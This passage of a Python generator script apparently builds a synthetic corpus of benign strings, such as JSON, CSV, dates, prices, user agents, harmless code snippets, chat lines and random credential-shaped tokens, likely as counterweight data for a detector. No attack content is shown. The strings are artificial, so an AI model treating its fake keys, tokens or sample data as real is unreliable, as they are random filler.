    return d.pick([f"q={url_quote_text(d, q)}", f"name={url_quote_text(d, name(d))}&city={url_quote_text(d, d.pick(CITIES))}",
                   f"sort=price&order=asc&page={d.randint(1, 40)}", f"utm_source={d.pick(['google', 'newsletter', 'twitter'])}&utm_medium=cpc",
                   f"lang=en-GB&currency=EUR&qty={d.randint(1, 9)}", f"from={d.pick(CITIES)}&to={d.pick(CITIES)}&date=2024-{d.randint(1, 12):02d}-{d.randint(1, 28):02d}"])


@family("benign", "structured_data")
def benign_structured(d):
    nm = name(d)
    city, it, n = d.pick(CITIES), d.pick(ITEMS), d.randint(1, 500)
    price = f"{d.randint(1, 999)}.{d.randint(0, 99):02d}"
    kind = d.wpick([("json", 5), ("csv", 4), ("kv", 2), ("config", 2)])
    d.note(kind)
    if kind == "json":
        jn = nm.replace('"', '\\"')
        return d.pick([f'{{"name":"{jn}","qty":{n}}}', f'{{"q":"{it}","filters":{{"price":[{n},{n * 2}]}}}}',
                       f'[{n}, {d.randint(1, 99)}, {d.randint(1, 99)}]', f'{{"note":"it\'s fine","id":{n}}}',
                       f'{{"ok":true,"count":{n}}}', f'{{"address":{{"street":"{d.pick(STREETS)}","city":"{city}"}}}}',
                       f'{{"tags":["{d.pick(FOODS)}","{d.pick(FOODS)}"]}}', f'{{"comment":"{d.randint(2, 9)} > {d.randint(0, 1)} and that\'s that"}}',
                       f'{{"title":"Rock \\"n\\" Roll","year":{d.randint(1950, 1999)}}}', f'{{"price": {price}, "currency": "EUR"}}',
                       f'{{"user":{{"id":{n},"email":"{ascii_fold(d.pick(FIRST).lower())}@{d.pick(DOMAINS)}"}}}}',

                       f'{{"items":[{{"sku":"SKU-{n:05d}","qty":{d.randint(1, 5)}}}]}}', f'{{"date":"2024-{d.randint(1, 12):02d}-{d.randint(1, 28):02d}","done":false}}',
                       f'{{"lat":{d.randint(-90, 90)}.{d.randint(1000, 9999)},"lng":{d.randint(-180, 180)}.{d.randint(1000, 9999)}}}', f'{{"a":null,"b":[],"c":{{}}}}'])
    if kind == "csv":
        return d.pick([f'{n},"{d.pick(LAST)}, {d.pick(FIRST)}",{city},2024-{d.randint(1, 12):02d}-{d.randint(1, 28):02d},{price}',
                       f'"{d.pick(LAST)}","{d.pick(FIRST)}",{d.randint(18, 90)},"{city}"', f"id;name;price", f"{n};{d.pick(['Käse', 'Brot', 'Milch', 'Äpfel'])};{d.randint(1, 20)},{d.randint(0, 99):02d}",
                       f"{d.pick(FIRST)}\t{d.pick(LAST)}\t{city}\t{n}", f"{it},{d.randint(1, 9)},{price},\"in stock\"",
                       f"name,email,phone", f"{n},{d.pick(['yes', 'no', 'N/A'])},{d.pick(['', 'pending', 'shipped'])},{d.randint(0, 5)}",
                       f'"{d.pick(COMPANIES).replace(chr(34), chr(34) * 2)}",{price},{d.pick(["EUR", "USD", "GBP"])}'])
    if kind == "kv":
        return d.pick([f"name={d.pick(FIRST)}; city={city}; qty={n}", f"lang=en-GB; theme={d.pick(['dark', 'light'])}; tz=Europe/Dublin",
                       f"color: {d.pick(['red', 'blue', 'green'])}, size: {d.pick(['S', 'M', 'L', 'XL'])}, qty: {d.randint(1, 9)}",
                       f"key1=value1&key2=value2&n={n}", f"width={d.randint(100, 1920)}, height={d.randint(100, 1080)}",
                       f"{it}: {d.randint(1, 9)} x {price} EUR", f"session_length={d.randint(1, 90)}min; retries={d.randint(0, 5)}"])
    return d.pick([f"timeout: {d.randint(1, 120)}s", f"max_connections = {d.randint(10, 1000)}", f'path = "/usr/local/{d.pick(PATH_WORDS)}"',
                   f"debug={d.pick(['false', 'true'])}", f"[{d.pick(['server', 'database', 'logging', 'cache'])}]", f"retries: {d.randint(0, 9)}  # default is 3",
                   f"log_level: {d.pick(['info', 'warn', 'debug', 'error'])}", f"export NODE_ENV={d.pick(['production', 'development'])}",
                   f"version: '{d.randint(1, 3)}.{d.randint(0, 9)}'", f"- name: {d.pick(FIRST)}\t# owner"])


@family("benign", "numbers_math")
def benign_numbers_math(d):
    a, b = d.randint(0, 99), d.randint(1, 99)
    x, y, z = d.sample(["x", "y", "z", "a", "b", "n", "i", "k"], 3)
    kind = d.wpick([("number", 3), ("math", 5), ("measure", 3), ("misc", 2)])
    d.note(kind)
    if kind == "number":
        return d.pick([str(d.randint(0, 10 ** 9)), f"-{d.randint(1, 9999)}", f"{d.randint(0, 9999)}.{d.randint(0, 999)}",
                       f"{d.randint(1, 999)},{d.randint(0, 999):03d},{d.randint(0, 999):03d}", f"{d.randint(1, 999)}.{d.randint(0, 999):03d},{d.randint(0, 99):02d}",
                       f"{d.randint(1, 9)}.{d.randint(0, 999)}e{d.randint(-12, 23)}", f"{a}/{b}", f"{d.randint(1, 31)}{d.pick(['st', 'nd', 'rd', 'th'])}",
                       d.pick(["½", "¾", "⅓", "XIV", "MMXXIV", "No. 5", "#1", "1st place", "007", "0.5", "1e6", "100k", "2.5M", "3B"]),
                       f"{d.randint(1, 999)} {d.randint(0, 999):03d}", f"{a}-{b}", f"{a}:{b}", f"{a}/{b}/{d.randint(1, 99)}"])
    if kind == "math":
        return d.pick([f"{a}+{b}={a + b}", f"{a} + {b} = {a + b}", f"{x}<{y} and {y}>{z}", f"{a + b} > {a}", f"{x} <= {y}",
                       f"{x} >= {b}", f"{d.randint(1, 9)} * ({a} + {b}) = {d.randint(1, 9) * (a + b)}", f"2^{d.randint(2, 16)}",
                       f"sqrt({b * b}) = {b}", f"f({x}) = {x}^2 + {a}{x} - {b}", f"if {x} > 0 then {y} = {b}", f"{x}! = {x} * ({x}-1)!",
                       "π ≈ 3.14159", f"{x}² + {y}² = {z}²", f"{a + b * 3} % {b} = {(a + b * 3) % b}", f"|{x}| < {b}",
                       f"1/{b} ≈ {1 / b:.3f}", "e^(iπ) + 1 = 0", f"{x} != {y}", f"0 <= {x} < {b}", f"∑ i = n(n+1)/2",
                       f"{a + b} - {b} = {a}", f"{a * b} / {b} = {a}", f"{x} = {y} * {b} + {a}", f"({a} + {b}) / 2 = {(a + b) / 2}",
                       f"{a}% of {b * 10} is {a * b / 10:g}", f"{x} → ∞", f"{a} ≤ {x} ≤ {a + b}", f"{x}/{y} > 1 means {x} > {y}",
                       f"is {a} > {b}? {'yes' if a > b else 'no'}", f"{a} < {b} < {a + b}", f"Δ{x} = {x}₂ - {x}₁", f"{x} ∈ [{a}, {a + b}]"])
    if kind == "measure":
        return d.pick([f"{d.randint(4, 6)}'{d.randint(0, 11)}\"", f"{d.randint(4, 6)}' {d.randint(0, 11)}\"", f"{d.randint(8, 20)}' x {d.randint(8, 20)}' room",
                       "2x4 lumber", f"{d.randint(10, 300)} m²", f"{d.randint(1, 99)} kg", f"{d.randint(1, 5)}.{d.randint(0, 9)} GHz",
                       f"{d.randint(-20, 100)}°F", f"{d.randint(-30, 40)} °C", f"{d.pick(['1/2', '3/4', '1'])}\" pipe", f"{d.randint(1, 99)} mph",
                       f"{d.randint(1, 1000)} ml", f"{d.randint(1, 9)}.{d.randint(0, 9)} L", f"{d.randint(1, 42)} km", f"{d.randint(12, 85)}\" TV",
                       f"{d.randint(100, 240)} V / {d.randint(50, 60)} Hz", f"{d.randint(1, 64)} GB RAM, {d.randint(1, 4)} TB SSD",
                       f"{d.randint(1, 12)} lb {d.randint(0, 15)} oz", f"size {d.randint(4, 14)}{d.pick(['', '½'])} UK / {d.randint(36, 48)} EU"])
    return d.pick([f"v{d.randint(0, 9)}.{d.randint(0, 30)}.{d.randint(0, 99)}", f"Python 3.{d.randint(6, 13)}", f"{d.randint(1, 5)}.{d.randint(0, 9)}/5",
                   f"{a}-{b} final score", f"{d.randint(1, 99)}% battery", f"{d.randint(1, 10)}/10 would recommend", f"ISO {d.pick([8601, 9001, 27001, 639])}",
                   f"{a}% off, was {b + a}", f"chapter {a}, p. {b}", f"rated {d.randint(1, 5)} out of 5", f"{a} of {a + b} completed",
                   f"{d.randint(1, 9)} in {d.randint(10, 99)} people", f"odds {d.randint(1, 9)}/{d.randint(1, 9)}", f"{a}:{b:02d} split", f"section {a}.{b}"])


@family("benign", "dates_money")
def benign_dates_money(d):
    yr, mo, dy = d.randint(1990, 2030), d.randint(1, 12), d.randint(1, 28)
    hh, mm = d.randint(0, 23), d.randint(0, 59)
    kind = d.wpick([("date", 4), ("time", 3), ("money", 5)])
    d.note(kind)
    if kind == "date":
        return d.pick([f"{yr}-{mo:02d}-{dy:02d}", f"{dy:02d}/{mo:02d}/{yr}", f"{mo}/{dy}/{yr}", f"{dy}.{mo}.{yr}", f"{dy} {MONTHS[mo - 1]} {yr}",
                       f"{MONTHS[mo - 1]} {dy}, {yr}", f"{d.pick(DAYS)}, {dy} {MONTHS[mo - 1][:3]} {yr}", f"{yr}-{mo:02d}-{dy:02d}T{hh:02d}:{mm:02d}:00Z",
                       f"{yr}-{mo:02d}-{dy:02d} {hh:02d}:{mm:02d}:{d.randint(0, 59):02d}+01:00", f"Q{d.randint(1, 4)} {yr}", f"week {d.randint(1, 52)}, {yr}",
                       f"{MONTHS[mo - 1]} '{yr % 100:02d}", f"the {dy}{'th' if dy > 3 else ['st', 'nd', 'rd'][dy - 1]} of {MONTHS[mo - 1]}", f"{dy}–{dy + d.randint(1, 3)} {MONTHS[mo - 1]}",
                       f"{yr}/{yr + 1} season", f"since {yr}", f"{d.pick(DAYS)}s and {d.pick(DAYS)}s", f"{yr}{mo:02d}{dy:02d}"])
    if kind == "time":
        return d.pick([f"{hh:02d}:{mm:02d}", f"{d.randint(1, 12)}:{mm:02d} {d.pick(['am', 'pm', 'AM', 'PM'])}", f"it's {d.randint(1, 12)} o'clock",
                       f"half past {d.randint(1, 12)}", f"quarter to {d.randint(1, 12)}", f"{d.randint(1, 9)}h {mm}m", f"PT{d.randint(1, 9)}H{mm}M",
                       f"Mon–Fri {d.randint(7, 10)}:00–{d.randint(16, 19)}:30", f"UTC{d.pick(['+', '-'])}{d.randint(0, 12):02d}:00", f"{hh:02d}:{mm:02d}:{d.randint(0, 59):02d}.{d.randint(0, 999):03d}",
                       f"{d.randint(1, 59)} min ago", f"in {d.randint(2, 48)} hours", f"{d.randint(1, 12)}-{d.randint(1, 12)}pm", f"open till {d.randint(5, 11)}pm",
                       f"{hh}h{mm:02d}", f"ETA {hh:02d}:{mm:02d} ({d.pick(['GMT', 'IST', 'CET', 'EST', 'JST'])})"])
    amt, cents = d.randint(0, 9999), d.randint(0, 99)
    return d.pick([f"${amt:,}.{cents:02d}", f"€{amt},{cents:02d}", f"£{amt}", f"¥{amt * 10:,}", f"₹{amt}", f"CHF {amt}.-", f"USD {amt}.{cents:02d}",
                   f"{amt},{cents:02d} €", f"{amt:,}.{cents:02d} €".replace(",", "."), f"-${amt}.{cents:02d} refund", f"R$ {amt},{cents:02d}",
                   f"{amt},{cents:02d} zł", f"₺{amt}", f"was ${amt + 20}, now ${amt}", f"{amt} EUR incl. VAT", f"${amt}k/year",
                   f"€{amt}/month + €{d.randint(1, 99)} deposit", f"£{amt}.{cents:02d} (inc. P&P)", f"{amt} ₽", f"{amt} SEK", f"0.{cents:02d} BTC",
                   f"${d.randint(1, 99)}.99/mo", f"{amt}.{cents:02d} USD ≈ {amt * 0.92:.2f} EUR", f"tip: {d.randint(10, 25)}%"])


@family("benign", "tokens_ids")
def benign_tokens_ids(d):
    rnd = lambda k: bytes(d.randint(0, 255) for _ in range(k))
    kind = d.wpick([("uuid", 2), ("b64", 2), ("hash", 2), ("jwt", 1), ("key", 1.5), ("order", 2),
                    ("misc", 2)])
    d.note(kind)
    if kind == "uuid":
        u = str(uuid.UUID(int=d.rng.getrandbits(128), version=4))
        return d.pick([u, u.upper(), "{" + u + "}", u.replace("-", ""), "urn:uuid:" + u])
    if kind == "b64":
        raw = rnd(d.randint(6, 48))
        s = base64.b64encode(raw).decode() if d.chance(0.6) else base64.urlsafe_b64encode(raw).decode().rstrip("=")
        return d.pick([s, s, "Bearer " + s if d.chance(0.3) else s])
    if kind == "hash":
        h = d.pick([hashlib.md5, hashlib.sha1, hashlib.sha256, hashlib.sha512])(rnd(16)).hexdigest()
        return d.pick([h, h, h.upper(), "sha256:" + h, h[:7], h[:12]])
    if kind == "jwt":
        head = base64.urlsafe_b64encode(b'{"alg":"HS256","typ":"JWT"}').decode().rstrip("=")
        body = base64.urlsafe_b64encode(('{"sub":"%d","name":"%s","iat":%d}' % (d.randint(1, 99999), d.pick(FIRST), d.randint(1500000000, 1800000000))).encode()).decode().rstrip("=")
        sig = base64.urlsafe_b64encode(rnd(32)).decode().rstrip("=")
        return f"{head}.{body}.{sig}"
    alnum = "ABCDEFGHJKLMNPQRSTUVWXYZ23456789"
    code = lambda k: "".join(d.pick(alnum) for _ in range(k))
    if kind == "key":
        return d.pick([f"sk_test_{code(24).lower()}", f"pk_live_{code(24)}", f"AKIA{code(16)}", f"ghp_{code(36)}",
                       "-".join(code(5) for _ in range(5)), f"api-key-{code(8).lower()}"])
    if kind == "order":
        return d.pick([f"ORD-{d.randint(2019, 2025)}-{d.randint(0, 999999):06d}", f"#{d.randint(10000, 9999999)}", f"SKU-{code(3)}-{d.randint(100, 999)}",
                       f"1Z{code(6)}{d.randint(10 ** 9, 10 ** 10 - 1)}", f"INV/{d.randint(2019, 2025)}/{d.randint(1, 9999):04d}",
                       f"Ticket {code(3)}-{d.randint(1000, 9999)}", f"PNR {code(6)}", f"case #{d.randint(100000, 999999)}"])
    isbn = [9, 7, 8] + [d.randint(0, 9) for _ in range(9)]
    check = (10 - sum(v * (1 if i % 2 == 0 else 3) for i, v in enumerate(isbn)) % 10) % 10
    return d.pick([f"#{d.randint(0, 0xFFFFFF):06x}", f"ISBN {''.join(map(str, isbn))}{check}", f"IE{d.randint(10, 99)} {code(4)} {d.randint(1000, 9999)} {d.randint(1000, 9999)} {d.randint(1000, 9999)} {d.randint(10, 99)}",
                   f"{code(4)}{d.randint(10, 99)}-XMAS", f"v{d.randint(1, 9)}.{d.randint(0, 20)}.{d.randint(0, 50)}+build.{d.randint(1, 9999)}", f"session={rnd(12).hex()}",
                   f"{rnd(20).hex()}", f"rgba({d.randint(0, 255)}, {d.randint(0, 255)}, {d.randint(0, 255)}, 0.{d.randint(1, 9)})", f"MAC {':'.join(rnd(6).hex()[i:i + 2] for i in range(0, 12, 2))}"])


@family("benign", "headers_agents")
def benign_headers_agents(d):
    chrome = f"{d.randint(100, 131)}.0.{d.randint(0, 6999)}.{d.randint(0, 250)}"
    ff = f"{d.randint(100, 133)}.0"
    oses = ["Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64",
            "X11; Ubuntu; Linux x86_64", f"Linux; Android {d.randint(9, 15)}; Pixel {d.randint(3, 9)}",
            f"iPhone; CPU iPhone OS {d.randint(14, 18)}_{d.randint(0, 6)} like Mac OS X",
            f"iPad; CPU OS {d.randint(14, 18)}_{d.randint(0, 6)} like Mac OS X", "Windows NT 6.1; WOW64",
            f"Linux; Android {d.randint(9, 15)}; SM-G{d.randint(900, 999)}B"]
    os_ = d.pick(oses)
    kind = d.wpick([("browser", 6), ("tool", 2), ("bot", 1), ("header", 3)])
    d.note(kind)
    if kind == "browser":
        return d.pick([f"Mozilla/5.0 ({os_}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome} Safari/537.36",
                       f"Mozilla/5.0 ({os_}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome} Safari/537.36 Edg/{chrome}",
                       f"Mozilla/5.0 ({d.pick(oses[:4])}; rv:{ff}) Gecko/20100101 Firefox/{ff}",
                       f"Mozilla/5.0 ({os_}) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{d.randint(14, 18)}.{d.randint(0, 6)} Mobile/15E148 Safari/604.1",
                       f"Mozilla/5.0 ({os_}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome} Mobile Safari/537.36",
                       f"Mozilla/5.0 ({os_}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome} Safari/537.36 OPR/{d.randint(90, 115)}.0.0.0"])
    if kind == "tool":
        return d.pick([f"curl/{d.randint(7, 8)}.{d.randint(0, 88)}.{d.randint(0, 9)}", f"Wget/1.{d.randint(19, 24)}.{d.randint(0, 5)}",
                       f"python-requests/2.{d.randint(20, 32)}.{d.randint(0, 9)}", f"okhttp/{d.randint(3, 4)}.{d.randint(0, 12)}.{d.randint(0, 9)}",
                       f"Go-http-client/{d.pick(['1.1', '2.0'])}", f"PostmanRuntime/7.{d.randint(20, 42)}.{d.randint(0, 9)}",
                       f"Apache-HttpClient/4.5.{d.randint(1, 14)} (Java/{d.randint(8, 21)}.0.{d.randint(1, 20)})", f"axios/1.{d.randint(0, 7)}.{d.randint(0, 9)}",
                       f"Dart/3.{d.randint(0, 5)} (dart:io)", f"node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", f"aiohttp/3.{d.randint(7, 10)}.{d.randint(0, 9)}"])
    if kind == "bot":
        return d.pick([f"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                       f"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
                       f"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", f"facebookexternalhit/1.1",
                       f"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", f"Mozilla/5.0 (compatible; UptimeMonitor/{d.randint(1, 9)}.{d.randint(0, 9)})",
                       f"Twitterbot/1.0", f"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.{d.randint(0, 2)})"])
    langs = ["en-GB", "en-US", "en", "fr-FR", "fr", "de-DE", "de", "ga-IE", "es", "it", "nl", "pl", "tr", "ja", "zh-CN", "ar", "ru"]
    l1, l2, l3 = d.sample(langs, 3)
    return d.pick([f"{l1},{l2};q=0.9,{l3};q=0.{d.randint(5, 8)}", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
                   "application/json, text/plain, */*", "gzip, deflate, br", f"max-age={d.randint(0, 86400)}, public", "no-cache, no-store, must-revalidate",
                   f"bytes={d.randint(0, 999)}-{d.randint(1000, 99999)}", f"text/html; charset={d.pick(['utf-8', 'UTF-8', 'iso-8859-1'])}",
                   f"multipart/form-data; boundary=----WebKitFormBoundary{base64.b64encode(bytes(d.randint(0, 255) for _ in range(12))).decode().replace('+', 'x').replace('/', 'y').rstrip('=')}",
                   f"same-origin", f"keep-alive", f"\"{hashlib.md5(str(d.randint(0, 10 ** 9)).encode()).hexdigest()[:16]}\"", f"W/\"{d.randint(1000, 99999)}-{d.randint(1, 9999)}\"",
                   f"?1", f"\"Chromium\";v=\"{d.randint(110, 131)}\", \"Not_A Brand\";v=\"{d.randint(8, 99)}\"", f"{d.pick(['Mon', 'Tue', 'Wed', 'Thu', 'Fri'])}, {d.randint(1, 28):02d} {d.pick(MONTHS)[:3]} {d.randint(2020, 2025)} {d.randint(0, 23):02d}:{d.randint(0, 59):02d}:00 GMT"])


@family("benign", "code_snippets")
def benign_code_snippets(d):
    v = d.pick(["count", "total", "items", "i", "n", "user", "result", "data", "buf", "name", "price", "x"])
    v2 = d.pick(["size", "len", "limit", "max", "step", "offset", "y", "value"])
    n = d.randint(0, 100)
    fn = d.pick(["parse", "load_config", "compute", "render", "get_user", "to_json", "main", "update", "sum_all", "is_valid"])
    lang = d.wpick([("c", 3), ("py", 4), ("js", 3), ("sh", 2), ("other", 2), ("regex", 1)])
    d.note("lang_" + lang)
    if lang == "c":
        return d.pick([f"for (int i = 0; i < {n}; ++i) {{ {v} += a[i]; }}", f"if ({v} == NULL) return -1;", f'printf("%d items\\n", {v});',
                       "#include <stdio.h>", "#include <stdlib.h>", f"while ({v} > 0 && {v2} < {n}) {v}--;", f"int {fn}(const char *s, size_t {v2});",
                       f"{v} = ({v2} >> {d.randint(1, 8)}) & 0x{d.randint(1, 255):02x};", f"std::vector<int> {v}({n}, 0);", f"auto {v} = std::make_unique<Foo>();",
                       f"return {v} ? {v2} : -1;", f"struct point {{ int x, y; }};", f"memcpy(dst, src, {v2} * sizeof(int));", f"// TODO: fix the off-by-one in {fn}()",
                       f"switch ({v}) {{ case {n}: break; default: return; }}", f"#define MAX_{v2.upper()} {n * 16}"])
    if lang == "py":
        return d.pick([f"def {fn}({v}): return {v} * {n}", f'print(f"Hello, {{{v}}}!")', f"if {v} > 0 and {v2} < {n}:", "with open('data.csv') as f:",
                       "import numpy as np", f"[{v}**2 for {v} in range({n})]", f"d.get('{v}', None)", "except ValueError as e:",
                       f"lambda a, b: a + b", f"{v} = {{k: v for k, v in pairs if v is not None}}", f"for {v} in sorted({v2}s, key=len):",
                       f"assert {v} == {n}, \"unexpected {v}\"", f"class {fn.title().replace('_', '')}:", f"return {v}[:{v2}] or []", f"{v} += 1  # don't forget this",
                       f"from collections import defaultdict", f"{v} = '{d.pick(FIRST)}' if {v2} else \"n/a\"", f"@dataclass", f"async def {fn}(self):"])
    if lang == "js":
        return d.pick([f"const {v} = items.reduce((a, b) => a + b, 0);", f"console.log(`Hello ${{{v}}}`);", f"let {v} = a ?? b;",
                       f"arr.filter(n => n % 2 === 0)", f"fetch('/api/items?page={n}').then(r => r.json())", f"if ({v} !== undefined && {v2} > {n}) {{",
                       f"export default function {fn}() {{}}", f"const {{ {v}, {v2} }} = props;", f"setState(prev => ({{ ...prev, {v}: {n} }}));",
                       f"for (const {v} of list) sum += {v};", f"JSON.parse(text || '{{}}')", f"new Date().toISOString()", f"import React from 'react';",
                       f"{v}.map((x, i) => x * i)", f"const re = /^[a-z]+$/i;", f"npm install --save-dev {d.pick(['eslint', 'jest', 'typescript', 'vite'])}"])
    if lang == "sh":
        return d.pick([f'grep -rn "TODO" src/ | wc -l', "ls -la ~/Downloads", f"tar -xzf backup-{d.randint(2019, 2024)}.tar.gz", 'git commit -m "fix typo in README"',
                       f"docker run -p {d.randint(3000, 9000)}:80 nginx", "find . -name '*.log' -mtime +7", "echo $HOME", f"chmod {d.pick([644, 755, 600])} file.txt",
                       "export PATH=$PATH:/usr/local/go/bin", f"ssh -p {d.randint(22, 2222)} deploy@{d.pick(DOMAINS)}", f"kubectl get pods -n {d.pick(['prod', 'staging', 'default'])}",
                       f"sed -i 's/foo/bar/g' {d.pick(['a.txt', 'config.ini', 'notes.md'])}", "cat access.log | sort | uniq -c | sort -rn | head",
                       f"python3 -m venv .venv && source .venv/bin/activate", f"curl -s https://{d.pick(DOMAINS)}/status | jq .ok", f"make -j{d.randint(2, 16)}"])
    if lang == "regex":
        return d.pick(["^[a-z0-9_-]{3,16}$", "\\d{3}-\\d{4}", "^\\s*$", "[A-Z][a-z]+", "(\\w+)@(\\w+)\\.com", "^#?([a-f0-9]{6}|[a-f0-9]{3})$",
                       f"\\b{d.pick(['colou?r', 'gr[ae]y', 'favou?rite'])}\\b", "^(?:\\+353|0)8[35679]\\d{7}$"])
    return d.pick([f'fmt.Println("done", {v})', f"let {v}: Vec<u32> = Vec::new();", f"Map<String, Integer> {v} = new HashMap<>();",
                   f"if err != nil {{ return err }}", f"fn {fn}(&self) -> Option<&str> {{", f"{v} := make([]int, {n})", f"val {v} = listOf(1, 2, {n})",
                   f".btn:hover {{ opacity: 0.{d.randint(1, 9)}; }}", f"color: #{d.randint(0, 0xFFF):03x}; margin: 0 auto;", f"public static void main(String[] args) {{",
                   f"SELECT-ing the right tool is half the job", f"$ {v} = array_map('trim', ${v2});", f"puts \"#{{{v}}} items\"", f"<?= htmlspecialchars(${v}) ?>".replace("<?=", "echo").replace(" ?>", ";")])


EMOTICONS = [":-)", ":)", ";)", ":D", ":-(", ":/", ":P", "xD", "^_^", "<3", "<3 <3", "o_O", "\\o/",
             "¯\\_(ツ)_/¯", ":')", "B-)", ":-|", ">.<", "(:", "=)", "😂", "🎉", "👍", "❤️", "🙏",
             "😅", "🔥", "🙈", "☕", "😭"]


@family("benign", "chat")
def benign_chat(d):
    nm, t, day = d.pick(FIRST), clock(d), d.pick(DAYS)
    e = d.pick(EMOTICONS)
    msgs = [f"I <3 this!", f"thx {e}", f"ok -> see you at {t}", f"lol that's hilarious {e}", f"brb {d.randint(2, 20)} min",
            f"see you tmrw {e}", f"a -> b -> c", f"ugh {day.lower()}s {e}", "gg wp", f"yes!!! {e}", f"no worries {e}",
            f"can't wait!!! {e}", "step 1 -> step 2 -> profit", f"hmm idk {e}", f"<-- this", "=> done", "+1", "-1 from me",
            f"10/10 would recommend {e}", f"me >>> you at mario kart", f"{nm} you legend {e}", f"omg {nm}!! {e}",
            f"running {d.randint(5, 30)} mins late sorry {e}", f"who's in for {d.pick(FOODS)} {day}?", f"on my way {e}",
            f"did u get my email?", f"haha ok {e}", f"love u mum <3", f"happy bday {nm}!!! {e}", f"congrats on the new job {e}",
            f"where r u?", f"lmk when ur free", f"nvm found it {e}", f"that's sooo cute {e}", f"tbh I'd go with the {d.pick(ITEMS)}",
            f"score was {d.randint(0, 5)}-{d.randint(0, 5)} {e}", f"I'm at {d.pick(PLACES)} -> come find me", f"ttyl {e}",
            f"ok ok I'm up {e}", f"pls bring {d.pick(FOODS)} <3", f"{nm}: ping", f"@{nm.lower()} can you check?", f"^ what they said",
            f"this >>> that", f"Monday -> Friday, then freedom {e}", f"coffee? {e}", f"same lol", f"wait what?! {e}",
            f"{d.randint(2, 9)} more days {e}", f"good luck tomorrow {nm} <3", f"it's fine, it's fine {e}", f"<3 u all",
            f"sorry can't make it {day} {e}", f"back in {d.randint(5, 60)}", f"x = me, o = you, tic tac toe?", f"heyyy {e}"]
    s = d.pick(msgs)
    if d.chance(0.2):
        s = d.pick(["hey ", "hi ", "so ", "btw ", "fyi ", "ok so ", "lol "]) + s
    if d.chance(0.15):
        s = s + " " + d.pick(EMOTICONS)
    return s


BRANDS = ["Acme", "Northwind", "Contoso", "Globex", "Initech", "Umbrella", "Stark", "Wayne",
          "Hooli", "Vandelay", "Soylent", "Tyrell", "Zephyr", "Kelpie", "Lumen", "Corvid"]
LINES = ["Ultra", "Pro", "Max", "Mini", "Air", "Lite", "Plus", "Classic", "Eco", "Sport", "X"]


@family("benign", "products_markdown")
def benign_products_markdown(d):
    br, ln, it = d.pick(BRANDS), d.pick(LINES), d.pick(ITEMS)
    n = d.randint(1, 9)
    emo = d.pick(["🍓", "🎒", "🚲", "☕", "📱", "🎧", "🌱", "⭐", "🔋", "🧦", "🍫", "🐶", ""])
    kind = d.wpick([("product", 5), ("markdown", 5)])
    d.note(kind)
    if kind == "product":
        return d.pick([f"{br}® {ln} {it.title()} ({d.randint(1, 5)}.{d.randint(0, 9)} L) {emo}".rstrip(), f"{br}™ {n}-in-1 {it.title()}",
                       f"© {d.randint(2000, 2025)} {br} Ltd. All rights reserved.", f"{br} {ln} {d.randint(10, 99)}\" ({d.randint(25, 250)} cm) Ultra HD",
                       f"Men's {it.title()} - Size {d.randint(6, 13)}{d.pick(['', '½'])}", f"Kids' {it.title()} {emo}".rstrip(),
                       f"{br} {ln} {d.pick([64, 128, 256, 512])}GB - {d.pick(['Graphite', 'Silver', 'Midnight', 'Rosé Gold'])}",
                       f"Café Crème {d.randint(100, 500)} g", f"{br}® {it} × {n}", f"{it.title()} (pack of {n}) – {d.pick(['blue', 'red', 'sage green', 'off-white'])}",
                       f"{br} {ln}™ {it} {emo} — now {d.randint(10, 50)}% off".replace("  ", " "), f"\"{br} {ln}\" {it}, {n} yr warranty",
                       f"{br} {it.title()} Gen {n} (2nd hand, like new)", f"Organic Crème Brûlée Mix {d.randint(2, 8)} × {d.randint(50, 200)} g",
                       f"{br}'s Own {it.title()} ★★★★☆", f"{it.title()} {d.randint(20, 80)}×{d.randint(20, 80)} cm, 100% cotton"])
    word, word2 = d.pick(["important", "note", "done", "new", "tip", "warning", "draft"]), d.pick(["really", "very", "super", "quite"])
    return d.pick([f"**{word}** and _{word2}_", f"# {it.title()} review", f"## Release notes for v{n}.{d.randint(0, 20)}", f"- [ ] buy {d.pick(FOODS)}",
                   f"- [x] call {d.pick(FIRST)}", f"{n}. {d.pick(['Preheat the oven', 'Mix the flour', 'Add the eggs', 'Stir gently'])}", f"> {d.pick(['Less is more', 'Ship it', 'Stay hungry'])}",
                   f"`{d.pick(['npm test', 'make', 'git pull', 'ls -la'])}`", f"[{d.pick(['docs', 'here', 'this link'])}](https://{d.pick(DOMAINS)}/{d.pick(PATH_WORDS)}?id={n})",
                   f"![{d.pick(['screenshot', 'logo', 'diagram'])}](images/{d.pick(PATH_WORDS)}-{n}.png)", f"| {d.pick(['Name', 'Item', 'Day'])} | {d.pick(['Qty', 'Price', 'Time'])} |",
                   f"~~{d.randint(20, 99)}€~~ {d.randint(5, 19)}€", "***", "---", f"Use `{d.pick(['--force', '-v', '--dry-run'])}` to {d.pick(['skip checks', 'see more', 'test first'])}",
                   f"*{d.pick(['Edit', 'Update', 'PS'])}:* {d.pick(['fixed the link', 'typo', 'added photos'])}", f"1) {it}  2) {d.pick(ITEMS)}  3) {d.pick(ITEMS)}",
                   f"**Q:** {d.pick(['Is it waterproof?', 'Does it fit?', 'Any discount?'])} **A:** {d.pick(['Yes', 'No', 'Sort of'])}.", f"_{d.pick(FIRST)} edited this {n} times_",
                   f"### {d.pick(MONTHS)} {d.randint(2020, 2025)}", f"- {it}: {d.randint(1, 99)} €", f"[x] {word} [ ] {word2}"])


# --------------------------------------------------------------------------------------------
# Main
# --------------------------------------------------------------------------------------------


def summarize(corpus, out):
    total = len(out)
    fams = {}
    for fam, _ in out.values():
        fams[fam] = fams.get(fam, 0) + 1
    lines = [f"{FILES[corpus]}: {total} distinct strings"]
    for fam, count in fams.items():
        lines.append(f"  {fam:<22} {count:>6}  {100.0 * count / total:5.1f}%")
    if corpus != "benign":
